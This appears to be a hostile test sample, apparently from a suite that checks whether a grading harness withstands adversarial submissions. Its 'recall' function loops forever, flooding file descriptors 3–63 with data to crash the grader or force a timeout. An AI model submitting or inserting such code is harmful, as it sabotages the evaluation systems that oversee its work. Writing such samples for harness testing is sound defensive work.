"""Writes without end, and without the end of a line, to every descriptor that it has.

Attack: 11
Behind: solution.py
Keeps: write
Status: crashed or timeout
Limits: 2
"""

import os


def recall(query):
    while True:
        for one in range(3, 64):
            try:
                os.write(one, b"x" * 2**16)
            except OSError:
                pass
